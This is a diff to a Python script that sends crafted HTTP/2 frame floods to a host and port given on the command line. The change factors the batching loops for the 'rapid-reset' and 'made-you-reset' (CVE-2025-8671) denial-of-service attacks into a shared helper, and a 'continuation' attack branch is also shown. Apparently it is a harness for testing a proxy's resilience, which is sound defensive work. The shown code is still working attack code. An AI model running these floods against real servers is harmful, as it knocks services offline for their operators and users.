@@ -110,6 +110,19 @@ class Conn:
                 "seconds": round(time.monotonic() - t0, 2)}
 
 
+def batches(c, n, stream):
+    """n batches of 100 new streams, stream(id) giving each one's frames; each batch is one write,
+    as the attacks' clients do. Stops at the proxy's GOAWAY or close."""
+    sid = 1
+    for _ in range(n):
+        if not c.send(b"".join(stream(s) for s in range(sid, sid + 200, 2)), 200):
+            return
+        sid += 200
+        c.read(0.01)
+        if c.goaway is not None or c.closed:
+            return
+
+
 def main():
     host, port, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3]
     c = Conn(host, port)
@@ -157,33 +170,14 @@ def main():
         c.read(5)
     elif attack == "rapid-reset":
         block = request_block()
-        sid = 1
-        # In batches, as the attack's clients do: each batch one write.
-        for _ in range(100):
-            batch = b"".join(frame(1, 4, s, block) + frame(3, 0, s, struct.pack(">I", 8))
-                             for s in range(sid, sid + 200, 2))
-            sid += 200
-            if not c.send(batch, 200):
-                break
-            c.read(0.01)
-            if c.goaway is not None or c.closed:
-                break
+        batches(c, 100, lambda s: frame(1, 4, s, block) + frame(3, 0, s, struct.pack(">I", 8)))
         c.read(5)
     elif attack == "made-you-reset":
         # The server is made to reset each stream itself, after the request went upstream: a body
         # longer than its content-length is a stream error (RFC 9113 8.1.1), so the client never
         # sends RST_STREAM (CVE-2025-8671).
         block = request_block() + lit("content-length", "1")
-        sid = 1
-        for _ in range(50):
-            batch = b"".join(frame(1, 4, s, block) + frame(0, 1, s, b"xx")
-                             for s in range(sid, sid + 200, 2))
-            sid += 200
-            if not c.send(batch, 200):
-                break
-            c.read(0.01)
-            if c.goaway is not None or c.closed:
-                break
+        batches(c, 50, lambda s: frame(1, 4, s, block) + frame(0, 1, s, b"xx"))
         c.read(3)
     elif attack == "continuation":
         block = request_block()
